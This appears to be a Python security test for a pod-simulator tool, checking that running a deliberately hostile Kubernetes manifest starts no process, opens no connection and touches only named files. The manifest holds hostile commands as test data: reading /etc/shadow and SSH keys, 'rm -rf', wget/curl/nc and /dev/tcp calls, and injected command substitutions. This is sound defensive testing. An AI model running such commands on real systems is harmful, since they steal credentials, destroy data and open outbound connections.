"""SECURITY.md is true: a run of hostile files starts no process, opens no connection, reads and writes only what was named."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from tests.conftest import ROOT

MANIFEST = """
apiVersion: v1
kind: Pod
metadata: {name: a, annotations: {x: "$(cat /etc/shadow)", y: "`id`", z: "file:///etc/shadow"}}
spec:
  restartPolicy: Never
  volumes:
  - {name: host, hostPath: {path: /etc}}
  - {name: more, hostPath: {path: /root}}
  containers:
  - name: c
    image: busybox:1.36
    volumeMounts: [{name: host, mountPath: /host}, {name: more, mountPath: /more}]
    env: [{name: http_proxy, value: "http://example.com:80"}, {name: LD_PRELOAD, value: /tmp/x.so}, {name: X, value: "$(rm -rf /)"}]
    command:
    - sh
    - -c
    - |
      cat /etc/shadow /host/shadow /more/.ssh/id_rsa /proc/self/environ; echo x > /host/podsim-was-here; rm -rf /host /more
      wget -qO- http://example.com; curl -s https://example.com -o /tmp/x; nc -z example.com 80; nslookup example.com
      : < /dev/tcp/example.com/80
      awk 'BEGIN { system("id"); "id" | getline x; print x > "/host/y" }'; sed -i 's/x/id/e' /tmp/x; find / -exec id {} +
      python3 -c 'import os; os.system("id")'; git clone http://example.com/x; tar xf /tmp/x -C /; kill -9 1
    readinessProbe: {exec: {command: [cat, /host/shadow]}}
"""
AUDIT = """
import json, os, sys
events = []
def hook(event, args):
    if event.startswith(("subprocess.", "os.system", "os.exec", "os.fork", "os.posix_spawn", "os.spawn", "pty.", "socket.", "ctypes.")):
        events.append([event, ""])
    elif event in ("open", "os.remove", "os.rename", "os.mkdir", "os.link", "os.symlink", "os.chmod", "os.truncate"):
        writes = event != "open" or (isinstance(args[2], int) and args[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC))
        events.append(["write" if writes else "read", str(args[0])])
from simulator.cli import main
import simulator.cli.app
sys.addaudithook(hook)
for words in json.loads(sys.argv[1]):
    main(words)
events, kept = [], events
print("\\n" + json.dumps(kept))
"""


def test_a_hostile_run_touches_only_what_was_named(tmp_path: Path) -> None:
    work, state = tmp_path / "work", tmp_path / "state"
    work.mkdir()
    (work / "a.yaml").write_text(MANIFEST, encoding="utf-8")
    commands = [
        ["run", "a.yaml", "--save", "x.journal"],
        ["get", "pods", "-o", "yaml", "--from", "x.journal"],
        ["logs", "a"],
        ["report", "-o", "x.html"],
    ]
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "XDG_STATE_HOME": str(state), "PYTHONDONTWRITEBYTECODE": "1"}
    environment.pop("PODSIM_LAST_RUN", None)
    command = [sys.executable, "-c", AUDIT, json.dumps(commands)]
    done = subprocess.run(command, cwd=work, env=environment, capture_output=True, text=True, check=True)
    events = json.loads(done.stdout.splitlines()[-1])
    assert (work / "x.html").is_file()
    assert {kind for kind, _ in events} == {"read", "write"}
    written = {str(Path(work, path)) for kind, path in events if kind == "write" and not path.isdecimal()}
    assert {path for path in written if not path.startswith((str(work), str(state), "/dev/null", "/proc/self/fd/"))} == set()
    own = (str(ROOT), str(work), str(state), sys.prefix, sys.base_prefix, "/proc/self/fd")
    read = {str(Path(work, path)) for kind, path in events if kind == "read" and not path.isdecimal()}
    assert {path for path in read if not path.startswith(own)} == set()
    assert sorted(path.name for path in work.iterdir()) == ["a.yaml", "x.html", "x.journal"]
